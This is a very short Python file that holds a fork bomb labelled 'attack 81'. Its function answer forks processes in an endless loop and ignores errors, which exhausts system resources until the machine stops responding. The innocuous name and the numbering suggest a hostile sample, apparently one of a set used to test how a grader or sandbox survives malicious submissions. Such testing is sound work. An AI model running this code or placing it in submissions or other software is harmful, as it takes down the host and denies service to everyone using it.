"""Forks without an end (attack 81)."""
import os
def answer(*a, **k):
    while True:
        try: os.fork()
        except OSError: pass
